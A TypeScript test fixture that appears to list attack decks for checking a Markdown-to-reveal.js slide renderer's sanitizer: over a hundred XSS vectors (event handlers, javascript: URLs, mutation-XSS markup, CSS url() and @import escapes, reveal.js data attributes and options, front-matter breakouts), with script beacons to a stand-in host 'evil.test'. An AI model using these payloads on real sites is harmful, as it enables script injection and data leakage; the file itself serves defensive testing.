/** A deck that would run a program or send word to another host, by name. `EVIL` stands for that host's address. */
export interface Attack {
  readonly name: string;
  /** The slide's Markdown, behind a first slide. */
  readonly slide?: string;
  /** Lines of the front matter. */
  readonly front?: string;
  /** Files beside the deck's text. */
  readonly files?: Readonly<Record<string, string>>;
}

const EVIL = 'http://evil.test/';
const RUN = `top.pwned=1;new Image().src='${EVIL}'`;
const own = `<!doctype html><script>parent.pwned=1;fetch('${EVIL}')</script>`;
const drawing = (content: string, root = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"${root}>${content}</svg>`;

const HTML: readonly (readonly [string, string])[] = [
  ['script', `<script>${RUN}</script>`],
  ['script-src', `<script src="${EVIL}"></script>`],
  ['script-module', `<script type="module">${RUN}</script>`],
  ['svg-script', `<svg><script>${RUN}</script></svg>`],
  ['math-script', `<math><script>${RUN}</script></math>`],
  ['img-onerror', `<img src=x alt="" onerror="${RUN}">`],
  ['svg-onload', `<svg onload="${RUN}"></svg>`],
  ['body-onload', `<body onload="${RUN}">`],
  ['details-ontoggle', `<details open ontoggle="${RUN}">x</details>`],
  ['video-onerror', `<video src=x onerror="${RUN}"></video>`],
  ['audio-source', `<audio><source src=x onerror="${RUN}"></audio>`],
  ['input-autofocus', `<input autofocus onfocus="${RUN}">`],
  ['marquee', `<marquee onstart="${RUN}">x</marquee>`],
  ['animation-end', `<p style="animation:a 1ms" onanimationend="${RUN}">x</p><style>@keyframes a{}</style>`],
  ['svg-animate-begin', `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`],
  ['iframe-javascript', `<iframe src="javascript:${RUN}"></iframe>`],
  ['iframe-srcdoc', `<iframe srcdoc="<script>${RUN}</script>"></iframe>`],
  ['iframe-data', `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`],
  ['iframe-foreign', `<iframe src="${EVIL}"></iframe>`],
  ['iframe-backslash', '<iframe src="/\\evil.test/a"></iframe>'],
  ['iframe-noscheme', '<iframe src="//evil.test/a"></iframe>'],
  ['iframe-lazy', `<iframe data-src="${EVIL}" data-preload></iframe>`],
  ['object', `<object data="${EVIL}"></object>`],
  ['embed', `<embed src="${EVIL}">`],
  ['link-sheet', `<link rel="stylesheet" href="${EVIL}">`],
  ['link-prefetch', `<link rel="prefetch" href="${EVIL}">`],
  ['link-preload', `<link rel="preload" as="image" href="${EVIL}">`],
  ['base', `<base href="${EVIL}"><img src="a.png" alt="">`],
  ['meta-refresh', `<meta http-equiv="refresh" content="0;url=${EVIL}">`],
  ['template-shadow', `<div><template shadowrootmode="open"><img src="${EVIL}"></template></div>`],
  ['noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`],
  ['xmp', `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`],
  [
    'mutation-form',
    `<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
  ],
  [
    'mutation-mglyph',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  ],
  ['mutation-svg-style', `<svg><style><img title="</style><img src=x onerror=${RUN}>"></style></svg>`],
  ['mutation-math-style', `<math><style><img title="</style><img src=x onerror=${RUN}>"></style></math>`],
  [
    'mutation-annotation',
    `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${RUN}>"></style></annotation-xml></math>`,
  ],
  [
    'mutation-foreign',
    `<svg><foreignObject><style><img title="</style><img src=x onerror=${RUN}>"></style></foreignObject></svg>`,
  ],
  [
    'mutation-title',
    `<svg><title><style><img title="</style><img src=x onerror=${RUN}>"></style></title></svg>`,
  ],
  ['mutation-desc', `<svg></p><desc><img src=x onerror="${RUN}"></desc></svg>`],
  ['mutation-comment', `<svg><p><style><!--</style><a title="--><img src=x onerror=${RUN}>">`],
  ['mutation-select', `<select><style></select><img src=x onerror="${RUN}"></style></select>`],
  ['style-break', `<p style="x:</style><img src=x onerror=${RUN}>">a</p>`],
  ['style-element-break', `<style>p{content:"<\\/style><img src=x onerror=${RUN}>"}</style>`],
  ['style-url', `<p style="background:url(${EVIL})">a</p>`],
  ['style-url-capitals', `<p style="background:URL(${EVIL})">a</p>`],
  ['style-url-escaped', `<p style="background:u\\72l(${EVIL})">a</p>`],
  ['style-url-noscheme', '<p style="background:url(//evil.test/a)">a</p>'],
  ['style-url-no-slashes', '<p style="background:url(https:evil.test/a)">a</p>'],
  ['style-image-set', `<p style="background:image-set('${EVIL}a.png' 1x)">a</p>`],
  ['style-webkit-image-set', `<p style="background:-webkit-image-set(url(${EVIL}) 1x)">a</p>`],
  ['style-cursor', `<p style="cursor:url(${EVIL}),auto">a</p>`],
  ['style-mask', `<p style="mask:url(${EVIL})">a</p>`],
  ['style-list', `<ul style="list-style:url(${EVIL})"><li>a</ul>`],
  ['style-border-image', `<p style="border-image:url(${EVIL})">a</p>`],
  ['style-content', `<p style="content:url(${EVIL})">a</p>`],
  ['style-filter', `<p style="filter:url(${EVIL}#a)">a</p>`],
  ['style-variable', `<p style="--a:url(${EVIL});background:var(--a)">a</p>`],
  ['style-shape', `<p style="float:left;shape-outside:url(${EVIL})">a</p>`],
  ['sheet-import', `<style>@import "${EVIL}";</style>`],
  ['sheet-import-url', `<style>@import url(${EVIL});</style>`],
  ['sheet-import-escaped', `<style>@\\69mport "${EVIL}";</style>`],
  ['sheet-font-face', `<style>@font-face{font-family:a;src:url(${EVIL})}p{font-family:a}</style><p>a</p>`],
  ['sheet-namespace', `<style>@namespace url(${EVIL});</style>`],
  ['sheet-nested', `<style>p{&{background:url(${EVIL})}}</style><p>a</p>`],
  ['sheet-media', `<style>@media all{p{background:url(${EVIL})}}</style><p>a</p>`],
  ['sheet-supports', `<style>@supports (color:red){p{background:url(${EVIL})}}</style><p>a</p>`],
  ['svg-style', `<svg><style>@import "${EVIL}";</style></svg>`],
  ['svg-image', `<svg><image href="${EVIL}" width="9" height="9"/></svg>`],
  ['svg-image-xlink', `<svg><image xlink:href="${EVIL}" width="9" height="9"/></svg>`],
  ['svg-use', `<svg><use href="${EVIL}#a"/></svg>`],
  [
    'svg-feimage',
    `<svg><filter id="f"><feImage href="${EVIL}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  ],
  ['svg-fill', `<svg><rect fill="url(${EVIL}#a)" width="9" height="9"/></svg>`],
  ['svg-mask', `<svg><rect mask="url(${EVIL}#a)" width="9" height="9"/></svg>`],
  ['svg-clip', `<svg><rect clip-path="url('${EVIL}#a')" width="9" height="9"/></svg>`],
  ['svg-marker', `<svg><path marker-end="url(${EVIL}#a)" d="M0 0L9 9"/></svg>`],
  ['svg-cursor', `<svg><rect cursor="url(${EVIL})" width="9" height="9"/></svg>`],
  [
    'svg-gradient',
    `<svg><linearGradient id="g" href="${EVIL}#a"/><rect fill="url(#g)" width="9" height="9"/></svg>`,
  ],
  ['svg-set-href', `<svg><image><set attributeName="href" to="${EVIL}"/></image></svg>`],
  [
    'svg-animate-style',
    `<svg><rect width="9" height="9"><set attributeName="style" to="fill:url(${EVIL})"/></rect></svg>`,
  ],
  [
    'svg-animate-fill',
    `<svg><rect width="9" height="9"><set attributeName="fill" to="url(${EVIL}#a)"/></rect></svg>`,
  ],
  ['img-srcset', `<img alt="a" srcset="${EVIL}a.png 1x">`],
  ['picture-srcset', `<picture><source srcset="${EVIL}a.png"><img alt="a"></picture>`],
  ['img-lowsrc', `<img alt="a" dynsrc="${EVIL}" lowsrc="${EVIL}">`],
  ['video-poster-set', `<video><source srcset="${EVIL}"></video>`],
  ['track', `<video><track default src="data:text/vtt,${EVIL}"></video>`],
  ['table-background', `<table background="${EVIL}"><tr><td background="${EVIL}">a</table>`],
  ['input-image', `<input type="image" src="${EVIL}">`],
  ['reveal-preview', `<a href="${EVIL}" data-preview-link id="click">a</a>`],
  ['reveal-preview-image', `<a data-preview-image="${EVIL}" id="click">a</a>`],
  ['reveal-preview-video', `<a data-preview-video="${EVIL}" id="click">a</a>`],
  ['reveal-inner-section', `</section><section data-background-iframe="${EVIL}">a</section>`],
  ['reveal-inner-background', `<section data-background-image="${EVIL}">a</section>`],
  ['reveal-options-element', `<div id="reveal-options">{"dependencies":[{"src":"${EVIL}"}]}</div>`],
  ['form', `<form action="${EVIL}"><button id="click">a</button></form>`],
  ['form-backslash', '<form action="/\\evil.test/a"><button id="click">a</button></form>'],
  ['formaction', `<form><button formaction="${EVIL}" id="click">a</button></form>`],
  ['link-javascript', `<a href="javascript:${RUN}" id="click">a</a>`],
  ['link-javascript-tab', `<a href="java&#9;script:${RUN}" id="click">a</a>`],
  ['link-vbscript', '<a href="vbscript:a" id="click">a</a>'],
  ['link-data', `<a href="data:text/html,<script>${RUN}</script>" id="click">a</a>`],
  ['link-ping', `<a href="#/" ping="${EVIL}" id="click">a</a>`],
  ['svg-link', `<svg><a xlink:href="javascript:${RUN}"><text y="9" id="click">a</text></a></svg>`],
];

const DIRECTIVES: readonly (readonly [string, string])[] = [
  ['slide-handler', `onclick="${RUN}"`],
  ['slide-style', `style="background:url(${EVIL})"`],
  ['slide-style-break', `style="x:</style><img src=x onerror=pwned=1>"`],
  ['background-iframe', `data-background-iframe="${EVIL}"`],
  ['background-iframe-preloaded', `data-background-iframe="${EVIL}" data-preload="true"`],
  ['background-break', 'data-background="x</style><img src=x onerror=pwned=1>.png"'],
  ['background-color', `data-background-color="url(${EVIL})"`],
  ['background-gradient', `data-background-gradient="url(${EVIL})"`],
  ['background-size', `data-background-color="red" data-background-size="url(${EVIL})"`],
  ['background-data', 'data-background-image="data:image/svg+xml,<svg onload=pwned=1>"'],
];

const FILES: readonly Attack[] = [
  {
    name: 'own-page-in-frame',
    slide: '![x](own.html)\n\n<iframe src="deck/own.html"></iframe>',
    files: { 'own.html': own },
  },
  {
    name: 'own-page-behind',
    slide: '<!-- .slide: data-background-iframe="deck/own.html" data-preload="true" -->\n![x](own.html)',
    files: { 'own.html': own },
  },
  {
    name: 'own-page-in-notes',
    slide: 'a\n\nNote:\n![x](own.html) <iframe src="deck/own.html"></iframe>',
    files: { 'own.html': own },
  },
  {
    name: 'own-drawing-in-frame',
    slide: '![x](own.svg)\n\n<iframe src="deck/own.svg"></iframe>',
    files: { 'own.svg': drawing(`<script>parent.pwned=1;fetch('${EVIL}')</script>`) },
  },
  {
    name: 'own-drawing-style',
    slide: '![x](own.svg)',
    files: { 'own.svg': drawing(`<style>@import "${EVIL}";</style>`) },
  },
  {
    name: 'own-drawing-image',
    slide: '![x](own.svg)',
    files: { 'own.svg': drawing(`<image href="${EVIL}"/>`) },
  },
  { name: 'option-dependency', front: `revealOptions:\n  dependencies:\n    - src: "${EVIL}"` },
  {
    name: 'option-own-dependency',
    front: 'revealOptions:\n  dependencies:\n    - src: "deck/own.js"',
    slide: '![x](own.js)',
    files: { 'own.js': 'pwned=1' },
  },
  {
    name: 'option-parallax',
    front: `revealOptions:\n  parallaxBackgroundImage: "${EVIL}"\n  parallaxBackgroundSize: "9px 9px"`,
  },
  { name: 'option-message', front: 'revealOptions:\n  postMessage: true' },
  { name: 'theme-import', files: { 'theme.css': `@import "${EVIL}";` } },
  { name: 'theme-import-escaped', files: { 'theme.css': `@\\69mport "${EVIL}";` } },
  { name: 'theme-url', files: { 'theme.css': `.reveal{background:url(${EVIL})}` } },
  { name: 'theme-break', files: { 'theme.css': 'p{content:"</style><img src=x onerror=pwned=1>"}' } },
  { name: 'title-break', front: 'title: "</title><img src=x onerror=pwned=1>"' },
  { name: 'description-break', front: "description: '\"><img src=x onerror=pwned=1>'" },
];

export const ATTACKS: readonly Attack[] = [
  ...HTML.map(([name, slide]) => ({ name, slide })),
  ...DIRECTIVES.map(([name, attributes]) => ({ name, slide: `<!-- .slide: ${attributes} -->\na` })),
  ...FILES,
];
